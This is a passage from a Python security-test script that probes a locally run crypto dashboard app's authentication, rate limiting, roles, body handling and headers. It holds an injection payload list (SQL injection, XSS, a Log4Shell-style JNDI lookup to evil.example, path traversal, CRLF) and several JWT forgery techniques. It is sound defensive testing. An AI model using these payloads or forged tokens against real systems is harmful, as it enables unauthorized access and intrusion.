"""Black-box security probe of a running cryptodash (issue 5's "Done when"): forges tokens,
replays refresh tokens, hammers login, crosses roles, sends oversize and malformed bodies and
injection-shaped strings to every route of the OpenAPI document, and checks headers, CSRF and
CORS. It talks HTTP only, like any client on the network.

    cryptodash up --demo --port 8765 --data-dir /tmp/probe-data &
    .venv/bin/python scripts/probe_security.py --url http://127.0.0.1:8765 \
        --data-dir /tmp/probe-data

`--data-dir` (the all-in-one data dir) lets the probe (a) sign tokens with the instance's real
key but wrong claims — the stronger forgery test: without it those tokens are also wrong in
their signature — and (b) make an administrator with `cryptodash create-admin` for the
role-crossing and deactivation checks. Prints one line per check and a findings summary; exit
status 1 when something was found.

Requests from 127.0.0.1 may carry `X-Forwarded-For` (uvicorn trusts it from the local proxy
address), which the probe uses to give each burst its own client IP, so one check's rate-limit
budget does not spoil the next.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import gzip
import hashlib
import hmac
import json
import os
import re
import secrets
import statistics
import subprocess
import sys
import time
import traceback
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import httpx
import jwt
from _report import Report

SECURITY_HEADERS = {
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
    "referrer-policy": "no-referrer",
}
INJECTIONS = [
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    '" OR ""="',
    "<script>alert(1)</script>",
    "{{7*7}}${7*7}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie: a=b",
    "\u0000",
    "a\u0000b",
    "\r\nX-Injected: 1",
    "\ud800",  # a lone surrogate (sent as the JSON escape)
    "\u202e\u0645\u0631\u062d\u0628\u0627 \U0001f680",
    "A" * 5000,
    "-1",
    "0",
    "99999999999999999999999999999999999999999",
    "1e309",
    "NaN",
    "*",
    "%",
    "_",
    "\\",
    "[]",
    "{}",
]


def section(title: str) -> None:
    print(f"\n== {title}")


def ip_gen() -> Iterable[str]:
    seed = secrets.randbelow(200) + 10
    n = 0
    while True:
        n += 1
        yield f"10.{seed}.{n // 250}.{n % 250 + 1}"


IPS = iter(ip_gen())


def fresh_ip() -> dict[str, str]:
    return {"X-Forwarded-For": next(IPS)}


def our_error(response: httpx.Response) -> bool:
    try:
        body = response.json()
    except ValueError:
        return False
    error = body.get("error") if isinstance(body, dict) else None
    return isinstance(error, dict) and {"code", "message", "request_id"} <= error.keys()


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def hs256(payload: dict[str, Any], key: bytes) -> str:
    """HS256 by hand (PyJWT refuses an empty key, which is the point of the test)."""
    signing = ".".join(
        [
            b64(json.dumps({"alg": "HS256", "typ": "JWT"}).encode()),
            b64(json.dumps(payload).encode()),
        ]
    )
    return f"{signing}.{b64(hmac.new(key, signing.encode(), hashlib.sha256).digest())}"


def unsigned(header: dict[str, Any], payload: dict[str, Any], signature: bytes = b"") -> str:
    return ".".join(
        [b64(json.dumps(header).encode()), b64(json.dumps(payload).encode()), b64(signature)]
    )


class Probe:
    def __init__(self, url: str, data_dir: Path | None, cli: str, password: str) -> None:
        self.url = url.rstrip("/")
        self.data_dir = data_dir
        self.cli = cli
        self.password = password
        self.report = Report()
        self.secret: str | None = None
        if data_dir is not None and (data_dir / "jwt_secret").is_file():
            self.secret = (data_dir / "jwt_secret").read_text().strip()
        self.client = httpx.AsyncClient(base_url=self.url, timeout=30.0)

    # ------------------------------------------------------------------ helpers

    async def register(self, prefix: str = "probe") -> dict[str, Any]:
        name = f"{prefix}_{secrets.token_hex(4)}"
        response = await self.client.post(
            "/api/users/register",
            json={"username": name, "email": f"{name}@example.com", "password": self.password},
            headers=fresh_ip(),
        )
        if response.status_code != 201:
            raise RuntimeError(f"register answered {response.status_code}: {response.text}")
        return {"username": name, **response.json()}

    async def login(self, username: str, password: str | None = None) -> httpx.Response:
        return await self.client.post(
            "/api/users/login",
            json={"username": username, "password": password or self.password},
            headers=fresh_ip(),
        )

    async def tokens(self, username: str) -> dict[str, Any]:
        response = await self.login(username)
        if response.status_code != 200:
            raise RuntimeError(f"login answered {response.status_code}: {response.text}")
        return dict(response.json())

    async def me(self, token: str, **headers: str) -> httpx.Response:
        bearer = f"Bearer {token}".strip().encode()  # bytes: non-ASCII goes out as UTF-8
        return await self.client.get(
            "/api/users/me", headers={"Authorization": bearer, **headers, **fresh_ip()}
        )

    async def refresh(self, refresh_token: str) -> httpx.Response:
        return await self.client.post(
            "/api/users/refresh", json={"refresh_token": refresh_token}, headers=fresh_ip()
        )

    async def raw(self, request: bytes) -> tuple[int, bytes]:
        """One request written by hand (what httpx refuses to send); (status, raw answer)."""
        parts = httpx.URL(self.url)
        reader, writer = await asyncio.open_connection(parts.host, parts.port or 80)
        try:
            writer.write(request)
            await writer.drain()
            data = await asyncio.wait_for(reader.read(65536), 10)
        finally:
            writer.close()
        first = data.split(b"\r\n", 1)[0].split()
        return (int(first[1]) if len(first) > 1 else 0), data

    def claims(self, token: str) -> dict[str, Any]:
        return dict(jwt.decode(token, options={"verify_signature": False}))

    # ------------------------------------------------------------------ 1. tokens

    async def forged_tokens(self) -> None:
        section("Forged tokens (GET /api/users/me must answer 401 with our error body)")
        user = await self.register()
        pair = await self.tokens(user["username"])
        access = pair["access_token"]
        good = await self.me(access)
        self.report.check(good.status_code == 200, "a genuine access token is accepted")
        claims = self.claims(access)
        now = int(time.time())
        head, body, sig = access.split(".")
        flipped = sig[:-2] + ("A" if sig[-2] != "A" else "B") + sig[-1]
        key = self.secret or secrets.token_hex(32)
        strong = self.secret is not None
        if not strong:
            self.report.note("no --data-dir: claim forgeries are signed with a random key")

        admin_claims = {**claims, "role": "admin"}
        forged: dict[str, str] = {
            "tampered signature": f"{head}.{body}.{flipped}",
            "tampered payload (role=admin), old signature": ".".join(
                [head, b64(json.dumps(admin_claims).encode()), sig]
            ),
            "alg none, no signature": unsigned({"alg": "none", "typ": "JWT"}, admin_claims),
            "alg None (case), no signature": unsigned({"alg": "None", "typ": "JWT"}, claims),
            "alg none with the old signature": unsigned(
                {"alg": "none", "typ": "JWT"}, claims, base64.urlsafe_b64decode(sig + "==")
            ),
            "HS512 with the real key" if strong else "HS512": jwt.encode(
                claims, key, algorithm="HS512"
            ),
            "HS384": jwt.encode(claims, key, algorithm="HS384"),
            "RS256 header, HMAC signature": unsigned(
                {"alg": "RS256", "typ": "JWT"}, claims, b"x" * 256
            ),
            "another secret": jwt.encode(claims, secrets.token_hex(32), algorithm="HS256"),
            "empty secret": hs256(claims, b""),
            "expired": jwt.encode({**claims, "exp": now - 10, "iat": now - 3700}, key, "HS256"),
            "wrong audience": jwt.encode({**claims, "aud": "someone-else"}, key, "HS256"),
            "wrong issuer": jwt.encode({**claims, "iss": "evil"}, key, "HS256"),
            "no exp": jwt.encode({k: v for k, v in claims.items() if k != "exp"}, key, "HS256"),
            "no sid": jwt.encode({k: v for k, v in claims.items() if k != "sid"}, key, "HS256"),
            "sub not a number": jwt.encode({**claims, "sub": "1 OR 1=1"}, key, "HS256"),
            "sub huge": jwt.encode({**claims, "sub": "9" * 40}, key, "HS256"),
            "sub of user 1": jwt.encode({**claims, "sub": "1"}, secrets.token_hex(32), "HS256"),
            "jku/kid header tricks": jwt.encode(
                claims,
                key,
                "HS256",
                headers={"kid": "../../../../dev/null", "jku": "https://evil.example/jwks"},
            )
            if not strong
            else "",
            "refresh token as access": pair["refresh_token"],
            "garbage": "not.a.token",
            "empty bearer": "",
            "very long": "a" * 20000,
            "non-ascii": "é.é.é",
        }
        for name, token in forged.items():
            if name == "jku/kid header tricks" and not token:
                continue
            response = await self.me(token)
            ok = response.status_code == 401 and our_error(response)
            self.report.check(ok, f"token: {name}", f"{response.status_code} {response.text[:120]}")
        # When signed with the real key, kid/jku would be honoured only if the server used them.
        if strong:
            token = jwt.encode(claims, key, "HS256", headers={"kid": "x", "jku": "https://e/x"})
            response = await self.me(token)
            self.report.note(f"real key with kid/jku headers: {response.status_code} (harmless)")

        # Token elsewhere than the Authorization header.
        response = await self.client.get(
            "/api/users/me", params={"token": access, "access_token": access}, headers=fresh_ip()
        )
        self.report.check(response.status_code == 401, "token in the query string is ignored")
        response = await self.client.get(
            "/api/users/me", headers={"Authorization": f"Basic {access}", **fresh_ip()}
        )
        self.report.check(response.status_code == 401, "Basic scheme with a token is refused")
        response = await self.client.get(
            "/api/users/me", cookies={"access_token": access}, headers=fresh_ip()
        )
        self.report.check(response.status_code == 401, "token in a cookie is ignored")

        # An access token is not a refresh token.
        response = await self.refresh(access)
        self.report.check(
            response.status_code == 401 and our_error(response),
            "access token presented as refresh token",
            f"{response.status_code} {response.text[:120]}",
        )
        if strong:
            refresh_claims = self.claims(pair["refresh_token"])
            fake = jwt.encode({**refresh_claims, "jti": "forged"}, key, "HS256")
            response = await self.refresh(fake)
            self.report.check(
                response.status_code == 401,
                "well-signed refresh token never issued (unknown jti) is refused",
                f"{response.status_code}",
            )

    # ------------------------------------------------------------------ 2. refresh replay

    async def refresh_replay(self) -> None:
        section("Refresh rotation and reuse")
        user = await self.register()
        first = await self.tokens(user["username"])
        r1 = first["refresh_token"]
        rotated = await self.refresh(r1)
        if not self.report.check(rotated.status_code == 200, "refresh with a fresh token"):
            return
        second = rotated.json()
        self.report.check(second["refresh_token"] != r1, "the refresh token rotates")
        replay = await self.refresh(r1)
        self.report.check(
            replay.status_code == 401 and our_error(replay),
            "replaying the rotated token is refused",
            f"{replay.status_code}",
        )
        family = await self.refresh(second["refresh_token"])
        self.report.check(
            family.status_code == 401,
            "after the replay, the newest refresh token of the family is revoked",
            f"{family.status_code}",
        )
        me = await self.me(second["access_token"])
        self.report.check(
            me.status_code == 401,
            "after the replay, the family's access token is revoked",
            f"{me.status_code}",
        )
        # Another login (another family) is untouched.
        other = await self.tokens(user["username"])
        self.report.check(
            (await self.me(other["access_token"])).status_code == 200,
            "another session of the same user is untouched",
        )
        # Concurrent use of one refresh token: at most one wins.
        fresh = await self.tokens(user["username"])
        results = await asyncio.gather(*(self.refresh(fresh["refresh_token"]) for _ in range(5)))
        wins = sum(r.status_code == 200 for r in results)
        self.report.check(
            wins <= 1 and all(r.status_code in (200, 401) for r in results),
            "five concurrent refreshes with one token: at most one succeeds",
            f"statuses {[r.status_code for r in results]}",
        )
        # A password change ends every other session at once.
        a, b = await self.tokens(user["username"]), await self.tokens(user["username"])
        new_password = self.password + "-new"
        changed = await self.client.post(
            "/api/users/me/password",
            json={"current_password": self.password, "new_password": new_password},
            headers={"Authorization": f"Bearer {a['access_token']}", **fresh_ip()},
        )
        if self.report.check(changed.status_code == 200, "password change", changed.text[:100]):
            fresh_pair = changed.json()
            self.report.check(
                (await self.me(b["access_token"])).status_code == 401
                and (await self.refresh(b["refresh_token"])).status_code == 401
                and (await self.me(a["access_token"])).status_code == 401,
                "after a password change the old sessions' tokens are refused",
            )
            self.report.check(
                (await self.me(fresh_pair["access_token"])).status_code == 200,
                "the pair the password change returned works",
            )
            self.report.check(
                (await self.login(user["username"])).status_code == 401
                and (await self.login(user["username"], new_password)).status_code == 200,
                "the old password is refused, the new one accepted",
            )
            wrong = await self.client.post(
                "/api/users/me/password",
                json={"current_password": "not-the-password", "new_password": "x" * 12},
                headers={"Authorization": f"Bearer {fresh_pair['access_token']}", **fresh_ip()},
            )
            self.report.check(wrong.status_code in (401, 403, 422), "a wrong current password")
            self.password, old = new_password, self.password
            await self.client.post(
                "/api/users/me/password",
                json={"current_password": new_password, "new_password": old},
                headers={"Authorization": f"Bearer {fresh_pair['access_token']}", **fresh_ip()},
            )
            self.password = old
        # Logout revokes.
        session = await self.tokens(user["username"])
        out = await self.client.post(
            "/api/users/logout",
            headers={"Authorization": f"Bearer {session['access_token']}", **fresh_ip()},
        )
        self.report.check(out.status_code == 204, "logout answers 204", f"{out.status_code}")
        self.report.check(
            (await self.me(session["access_token"])).status_code == 401,
            "after logout the access token is refused",
        )
        self.report.check(
            (await self.refresh(session["refresh_token"])).status_code == 401,
            "after logout the refresh token is refused",
        )

    # ------------------------------------------------------------------ 3. hammering login

    async def hammer_login(self) -> None:
        section("Hammering login (one client IP)")
        user = await self.register()
        ip = {"X-Forwarded-For": next(IPS)}
        responses = await asyncio.gather(
            *(
                self.client.post(
                    "/api/users/login",
                    json={"username": user["username"], "password": f"wrong-{i}-password"},
                    headers=ip,
                )
                for i in range(40)
            )
        )
        statuses = [r.status_code for r in responses]
        limited = [r for r in responses if r.status_code == 429]
        self.report.note(
            f"40 concurrent wrong logins: {statuses.count(401)}x401, {len(limited)}x429, "
            f"other {[s for s in statuses if s not in (401, 429)]}"
        )
        self.report.check(bool(limited), "login is rate limited")
        self.report.check(
            all(s in (401, 429) for s in statuses), "every answer is 401 or 429", str(statuses)
        )
        if limited:
            r = limited[0]
            self.report.check(
                r.headers.get("retry-after", "").isdigit(),
                "429 carries Retry-After",
                str(dict(r.headers)),
            )
            self.report.check(
                "x-ratelimit-limit" in r.headers and r.headers.get("x-ratelimit-remaining") == "0",
                "429 carries X-RateLimit-Limit and X-RateLimit-Remaining: 0",
            )
            self.report.check(our_error(r), "429 has our error body", r.text[:120])
            # The right password is refused too while limited (no oracle through the limiter).
            right = await self.client.post(
                "/api/users/login",
                json={"username": user["username"], "password": self.password},
                headers=ip,
            )
            self.report.check(
                right.status_code == 429,
                "the right password is also refused while limited",
                f"{right.status_code} remaining={right.headers.get('x-ratelimit-remaining')}",
            )
        ok = [r for r in responses if r.status_code == 401]
        if ok:
            self.report.check(
                "x-ratelimit-remaining" in ok[0].headers,
                "a limited route's allowed answers carry X-RateLimit-Remaining",
            )
        # Another IP is not affected.
        other = await self.login(user["username"])
        self.report.check(other.status_code == 200, "another client IP can still log in")
        # Register/refresh share the strict budget.
        ip = {"X-Forwarded-For": next(IPS)}
        regs = await asyncio.gather(
            *(
                self.client.post(
                    "/api/users/register",
                    json={"username": "x", "email": "bad", "password": "short"},
                    headers=ip,
                )
                for _ in range(30)
            )
        )
        self.report.check(
            any(r.status_code == 429 for r in regs),
            "register is rate limited",
            str([r.status_code for r in regs]),
        )

        section("Login timing: unknown user vs wrong password (fresh IP per attempt)")
        unknown, wrong = [], []
        for i in range(8):
            for bucket, name in ((unknown, f"nobody_{secrets.token_hex(6)}"), (wrong, None)):
                started = time.perf_counter()
                response = await self.client.post(
                    "/api/users/login",
                    json={"username": name or user["username"], "password": f"nope-{i}-nope"},
                    headers=fresh_ip(),
                )
                bucket.append(time.perf_counter() - started)
                if response.status_code != 401:
                    self.report.check(False, "timing login answered 401", f"{response.status_code}")
                    return
        mu, mw = statistics.median(unknown), statistics.median(wrong)
        self.report.note(
            f"median unknown user {mu * 1000:.0f} ms, wrong password {mw * 1000:.0f} ms"
        )
        self.report.check(
            abs(mu - mw) < max(0.35 * max(mu, mw), 0.03),
            "unknown user and wrong password take about the same time",
            f"{mu * 1000:.0f} vs {mw * 1000:.0f} ms",
        )
        by_email = await self.client.post(
            "/api/users/login",
            json={"username": f"{user['username']}@example.com", "password": "wrong-password-1"},
            headers=fresh_ip(),
        )
        unknown_r = await self.client.post(
            "/api/users/login",
            json={"username": "nobody_zz", "password": "wrong-password-1"},
            headers=fresh_ip(),
        )
        self.report.check(
            by_email.status_code == unknown_r.status_code == 401
            and by_email.json()["error"]["message"] == unknown_r.json()["error"]["message"],
            "the same message for a wrong password and an unknown user",
        )

    # ------------------------------------------------------------------ 4. roles

    def make_admin(self) -> tuple[str, str] | None:
        if self.data_dir is None:
            return None
        name = f"probeadmin_{secrets.token_hex(3)}"
        env = {**os.environ, "CRYPTODASH_DATA_DIR": str(self.data_dir)}
        result = subprocess.run(  # noqa: S603 - our own CLI
            [
                self.cli,
                "create-admin",
                "--username",
                name,
                "--email",
                f"{name}@example.com",
                "--password",
                self.password,
            ],
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
        if result.returncode != 0:
            self.report.note(f"create-admin failed: {result.stderr.strip()[:200]}")
            return None
        return name, self.password

    async def cross_roles(self) -> None:
        section("Crossing roles")
        user = await self.register()
        pair = await self.tokens(user["username"])
        auth = {"Authorization": f"Bearer {pair['access_token']}"}
        for method, path, body in [
            ("GET", "/api/admin/users", None),
            ("GET", f"/api/admin/users/{user['id']}", None),
            ("PATCH", f"/api/admin/users/{user['id']}", {"role": "admin"}),
            ("PATCH", f"/api/admin/users/{user['id']}", {"is_active": True}),
        ]:
            r = await self.client.request(method, path, json=body, headers={**auth, **fresh_ip()})
            self.report.check(
                r.status_code == 403 and our_error(r),
                f"user → {method} {path}: 403",
                f"{r.status_code}",
            )
        anon = await self.client.get("/api/admin/users", headers=fresh_ip())
        self.report.check(anon.status_code == 401, "anonymous → GET /api/admin/users: 401")
        for body in (
            {"role": "admin"},
            {"is_active": False},
            {"username": user["username"], "role": "admin"},
            {"id": 1},
            {"password_hash": "x"},
        ):
            r = await self.client.patch("/api/users/me", json=body, headers={**auth, **fresh_ip()})
            self.report.check(
                r.status_code in (400, 422) and our_error(r),
                f"PATCH /me {sorted(body)} refused",
                f"{r.status_code} {r.text[:100]}",
            )
        me = (await self.me(pair["access_token"])).json()
        self.report.check(me.get("role") == "user", "the role is still user", str(me))
        # Register with a role field.
        name = f"probe_{secrets.token_hex(4)}"
        r = await self.client.post(
            "/api/users/register",
            json={
                "username": name,
                "email": f"{name}@example.com",
                "password": self.password,
                "role": "admin",
                "is_active": True,
            },
            headers=fresh_ip(),
        )
        self.report.check(
            r.status_code == 422 or (r.status_code == 201 and r.json().get("role") == "user"),
            "register with role=admin is refused or ignored",
            f"{r.status_code} {r.text[:100]}",
        )

        admin = self.make_admin()
        if admin is None:
            self.report.note("no admin (no --data-dir): skipping deactivation checks")
            return
        admin_pair = await self.tokens(admin[0])
        admin_auth = {"Authorization": f"Bearer {admin_pair['access_token']}"}
        r = await self.client.get("/api/admin/users", headers={**admin_auth, **fresh_ip()})
        self.report.check(r.status_code == 200, "admin → GET /api/admin/users: 200")
        for q in [i for i in INJECTIONS if i != "\ud800"]:
            r = await self.client.get(
                "/api/admin/users", params={"q": q}, headers={**admin_auth, **fresh_ip()}
            )
            self.report.check(
                r.status_code < 500 and (r.status_code == 200 or our_error(r)),
                f"admin search q={q[:20]!r}: no 5xx",
                f"{r.status_code}",
            )
        admin_me = (await self.me(admin_pair["access_token"])).json()
        r = await self.client.patch(
            f"/api/admin/users/{admin_me['id']}",
            json={"role": "user"},
            headers={**admin_auth, **fresh_ip()},
        )
        self.report.check(
            r.status_code in (400, 403, 409, 422), "an admin cannot demote themselves"
        )
        r = await self.client.patch(
            "/api/admin/users/999999999",
            json={"is_active": False},
            headers={**admin_auth, **fresh_ip()},
        )
        self.report.check(r.status_code == 404 and our_error(r), "admin PATCH unknown user: 404")
        r = await self.client.patch(
            f"/api/admin/users/{user['id']}",
            json={"role": "root"},
            headers={**admin_auth, **fresh_ip()},
        )
        self.report.check(r.status_code == 422, "admin PATCH role=root: 422")

        # Deactivate the user: their live token is refused at once.
        live = await self.tokens(user["username"])
        self.report.check((await self.me(live["access_token"])).status_code == 200, "live token")
        r = await self.client.patch(
            f"/api/admin/users/{user['id']}",
            json={"is_active": False},
            headers={**admin_auth, **fresh_ip()},
        )
        self.report.check(r.status_code == 200, "admin deactivates the user")
        after = await self.me(live["access_token"])
        self.report.check(
            after.status_code == 401,
            "a deactivated user's live access token is refused at once",
            f"{after.status_code}",
        )
        portfolio = await self.client.get(
            "/api/portfolio",
            headers={"Authorization": f"Bearer {live['access_token']}", **fresh_ip()},
        )
        self.report.check(
            portfolio.status_code in (401, 404),
            "…also on another service's route",
            f"{portfolio.status_code}",
        )
        self.report.check(
            (await self.refresh(live["refresh_token"])).status_code == 401,
            "a deactivated user's refresh token is refused",
        )
        relog = await self.login(user["username"])
        self.report.check(
            relog.status_code in (401, 403),
            "a deactivated user cannot log in",
            f"{relog.status_code}",
        )
        # Demotion takes effect at once (the role that counts is the current one).
        other = await self.register()
        await self.client.patch(
            f"/api/admin/users/{other['id']}",
            json={"role": "admin"},
            headers={**admin_auth, **fresh_ip()},
        )
        promoted = await self.tokens(other["username"])
        p_auth = {"Authorization": f"Bearer {promoted['access_token']}"}
        self.report.check(
            (
                await self.client.get("/api/admin/users", headers={**p_auth, **fresh_ip()})
            ).status_code
            == 200,
            "a promoted user is admin",
        )
        await self.client.patch(
            f"/api/admin/users/{other['id']}",
            json={"role": "user"},
            headers={**admin_auth, **fresh_ip()},
        )
        r = await self.client.get("/api/admin/users", headers={**p_auth, **fresh_ip()})
        self.report.check(
            r.status_code == 403,
            "a demoted admin's live token loses admin at once",
            f"{r.status_code}",
        )

    # ------------------------------------------------------------------ 5. bodies

    async def bodies(self) -> None:
        section("Oversize and malformed bodies")
        big = b'{"username": "' + b"a" * (2 * 1024 * 1024) + b'", "password": "x"}'
        r = await self.client.post(
            "/api/users/login",
            content=big,
            headers={"Content-Type": "application/json", **fresh_ip()},
        )
        self.report.check(
            r.status_code == 413 and our_error(r), "2 MiB body: 413", f"{r.status_code}"
        )

        async def chunks() -> Any:
            for _ in range(40):
                yield b"a" * 65536

        r = await self.client.post(
            "/api/users/register",
            content=chunks(),
            headers={"Content-Type": "application/json", **fresh_ip()},
        )
        self.report.check(
            r.status_code == 413 and our_error(r),
            "2.5 MiB chunked body (no length): 413",
            f"{r.status_code}",
        )
        status, _ = await self.raw(
            b"POST /api/users/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            b"Content-Length: 99999999\r\nConnection: close\r\n\r\n{}"
        )
        self.report.check(status == 413, "a declared length over the limit: 413", f"{status}")

        user = await self.register()
        pair = await self.tokens(user["username"])
        auth = {"Authorization": f"Bearer {pair['access_token']}"}
        malformed: dict[str, tuple[bytes, str]] = {
            "truncated JSON": (b'{"username": "a', "application/json"),
            "not JSON": (b"username=a&password=b", "application/json"),
            "form encoded": (b"username=a&password=b", "application/x-www-form-urlencoded"),
            "JSON array": (b"[1,2,3]", "application/json"),
            "JSON string": (b'"hello"', "application/json"),
            "JSON null": (b"null", "application/json"),
            "empty": (b"", "application/json"),
            "invalid UTF-8": (b'{"username": "\xff\xfe", "password": "x"}', "application/json"),
            "BOM": (b'\xef\xbb\xbf{"username": "a", "password": "b"}', "application/json"),
            "deeply nested arrays": (b"[" * 100000 + b"]" * 100000, "application/json"),
            "deeply nested objects": (b'{"a":' * 50000 + b"1" + b"}" * 50000, "application/json"),
            "huge integer": (
                b'{"username": ' + b"9" * 5000 + b', "password": "x"}',
                "application/json",
            ),
            "huge float": (b'{"username": 1e999999, "password": "x"}', "application/json"),
            "NaN literal": (b'{"username": NaN, "password": "x"}', "application/json"),
            "duplicate keys": (
                b'{"username": "a", "username": "b", "password": "cccccccccc"}',
                "application/json",
            ),
            "lone surrogate escape": (
                b'{"username": "\\ud800", "password": "xxxxxxxxxxxx"}',
                "application/json",
            ),
            "null byte escape": (
                b'{"username": "a\\u0000b", "password": "xxxxxxxxxxxx"}',
                "application/json",
            ),
            "no content type": (b'{"username": "a", "password": "b"}', ""),
            "text/plain": (b'{"username": "a", "password": "b"}', "text/plain"),
        }
        targets = [
            ("POST", "/api/users/login", {}),
            ("POST", "/api/users/register", {}),
            ("PATCH", "/api/users/me", auth),
            ("PUT", "/api/users/me/preferences", auth),
            ("POST", "/api/portfolio", auth),
            ("POST", "/api/users/refresh", {}),
        ]
        for method, path, headers in targets:
            for name, (content, ctype) in malformed.items():
                h = {**headers, **fresh_ip()}
                if ctype:
                    h["Content-Type"] = ctype
                r = await self.client.request(method, path, content=content, headers=h)
                ok = 400 <= r.status_code < 500 and r.status_code != 429 and our_error(r)
                if name in (
                    "duplicate keys",
                    "no content type",
                    "text/plain",
                ) and r.status_code in (
                    200,
                    201,
                    401,
                    404,
                ):
                    ok = our_error(r) or r.status_code in (200, 201)
                self.report.check(
                    ok,
                    f"{method} {path} with {name}: 4xx + our body",
                    f"{r.status_code} {r.text[:100]}",
                )

    # ------------------------------------------------------------------ 6. injections

    async def injections(self) -> None:
        section("Injection-shaped strings in every route's text fields (never 5xx)")

        async def identity() -> tuple[dict[str, str], int]:
            """A fresh user (each has its own rate-limit bucket) and a portfolio of theirs."""
            user = await self.register()
            pair = await self.tokens(user["username"])
            auth = {"Authorization": f"Bearer {pair['access_token']}"}
            pr = await self.client.post(
                "/api/portfolio", json={"name": "probe"}, headers={**auth, **fresh_ip()}
            )
            return auth, (pr.json().get("id", 1) if pr.status_code in (200, 201) else 1)

        spec = (await self.client.get("/api/openapi.json", headers=fresh_ip())).json()
        schemas = spec.get("components", {}).get("schemas", {})
        fives: list[str] = []
        throttled = 0
        tried = 0
        auth, portfolio_id = await identity()
        verbatim_checks: list[tuple[str, str, str, str]] = []
        for path, item in spec["paths"].items():
            for method, op in item.items():
                if method not in ("get", "post", "put", "patch", "delete"):
                    continue
                if path in ("/api/users/logout", "/api/users/me/password"):
                    continue  # would end the probe's own session
                params = op.get("parameters", [])
                body_schema = (
                    op.get("requestBody", {})
                    .get("content", {})
                    .get("application/json", {})
                    .get("schema")
                )
                for payload in INJECTIONS:
                    if (params and payload == "\ud800") or (body_schema is None and not params):
                        continue  # a URL cannot carry a lone surrogate
                    url = path
                    query: dict[str, str] = {}
                    for p in params:
                        if p["in"] == "path":
                            value = (
                                payload if "id" not in p["name"] or tried % 2 else str(portfolio_id)
                            )
                            url = url.replace("{" + p["name"] + "}", _quote(value))
                        elif p["in"] == "query":
                            query[p["name"]] = payload
                    url = re.sub(r"\{[^}]+\}", _quote(payload), url)
                    body = None
                    if body_schema is not None:
                        body = _fill(body_schema, schemas, payload)
                    tried += 1
                    if tried % 250 == 0:
                        auth, portfolio_id = await identity()
                    try:
                        r = await self.client.request(
                            method.upper(),
                            url,
                            params=query,
                            content=None if body is None else json.dumps(body).encode(),
                            headers={**auth, **fresh_ip(), "Content-Type": "application/json"},
                        )
                    except httpx.HTTPError as exc:
                        fives.append(f"{method.upper()} {path} {payload[:20]!r}: {exc!r}")
                        continue
                    throttled += r.status_code == 429
                    if r.status_code >= 500:
                        fives.append(
                            f"{method.upper()} {path} {payload[:20]!r}: {r.status_code} "
                            f"{r.text[:120]}"
                        )
                    elif r.status_code >= 400 and not our_error(r):
                        fives.append(
                            f"{method.upper()} {path} {payload[:20]!r}: {r.status_code} not our "
                            f"error body: {r.text[:80]}"
                        )
                    elif r.status_code in (200, 201) and isinstance(body, dict):
                        answer = r.json()
                        for k, v in body.items():
                            if v == payload and isinstance(answer, dict) and k in answer:
                                verbatim_checks.append((path, k, payload, answer[k]))
        # Free text that is accepted must come back exactly as sent.
        for payload in INJECTIONS:
            r = await self.client.post(
                "/api/portfolio",
                content=json.dumps({"name": payload}).encode(),
                headers={**auth, **fresh_ip(), "Content-Type": "application/json"},
            )
            if r.status_code == 201:
                back = await self.client.get(
                    f"/api/portfolio/{r.json()['id']}", headers={**auth, **fresh_ip()}
                )
                verbatim_checks.append(("/api/portfolio", "name", payload, back.json()["name"]))
            elif r.status_code >= 500 or not our_error(r):
                fives.append(f"POST /api/portfolio name={payload[:20]!r}: {r.status_code}")
        self.report.note(f"{tried} requests over {len(spec['paths'])} paths")
        self.report.check(throttled == 0, "the fuzzing was not throttled", f"{throttled}x429")
        for line in fives[:40]:
            self.report.check(False, "injection", line)
        self.report.check(not fives, "no route answered 5xx or a foreign error body")
        for path, key, sent, stored in verbatim_checks:
            self.report.check(
                sent == stored, f"{path} stores {key} verbatim", f"sent {sent!r} got {stored!r}"
            )

    # ------------------------------------------------------------------ 7. headers

    async def headers(self) -> None:
        section("Security headers on every response type")
        index = await self.client.get("/", headers=fresh_ip())
        chunk = re.search(r'src="(/_next/static/[^"]+\.js)"', index.text)
        user = await self.register()
        pair = await self.tokens(user["username"])
        targets: dict[str, tuple[str, str, dict[str, str], bytes | None]] = {
            "API JSON": ("GET", "/api/market/coins", {}, None),
            "API 401": ("GET", "/api/users/me", {}, None),
            "API 404": ("GET", "/api/nope", {}, None),
            "API 405": ("DELETE", "/api/market/coins", {}, None),
            "API 422": ("POST", "/api/users/login", {"Content-Type": "application/json"}, b"{}"),
            "API 413": (
                "POST",
                "/api/users/login",
                {"Content-Type": "application/json"},
                b"x" * (1024 * 1024 + 10),
            ),
            "account 200": (
                "GET",
                "/api/users/me",
                {"Authorization": f"Bearer {pair['access_token']}"},
                None,
            ),
            "page /": ("GET", "/", {}, None),
            "page /login/": ("GET", "/login/", {}, None),
            "page 404": ("GET", "/no-such-page/", {}, None),
            "static chunk": ("GET", chunk.group(1) if chunk else "/favicon.ico", {}, None),
            "docs": ("GET", "/api/docs", {}, None),
            "openapi": ("GET", "/api/openapi.json", {}, None),
            "health": ("GET", "/health", {}, None),
            "ready": ("GET", "/health/ready", {}, None),
            "metrics": ("GET", "/metrics", {}, None),
            "HEAD /": ("HEAD", "/", {}, None),
            "preflight": (
                "OPTIONS",
                "/api/users/login",
                {"Origin": "http://127.0.0.1:8000", "Access-Control-Request-Method": "POST"},
                None,
            ),
            "ws path over HTTP": ("GET", "/ws/prices", {}, None),
        }
        for name, (method, path, headers, content) in targets.items():
            r = await self.client.request(
                method, path, headers={**headers, **fresh_ip()}, content=content
            )
            missing = [h for h, v in SECURITY_HEADERS.items() if r.headers.get(h) != v]
            csp = r.headers.get_list("content-security-policy")
            if len(csp) != 1 or "frame-ancestors 'none'" not in csp[0]:
                missing.append(f"CSP {csp}")
            if "x-request-id" not in r.headers:
                missing.append("x-request-id")
            if "server" in r.headers:
                missing.append(f"server header {r.headers['server']!r} present")
            self.report.check(not missing, f"{name} ({r.status_code}): headers", ", ".join(missing))
            if path.startswith("/api/users") and r.status_code == 200:
                self.report.check(
                    "no-store" in r.headers.get("cache-control", ""), f"{name}: no-store"
                )
        tls = await self.client.get(
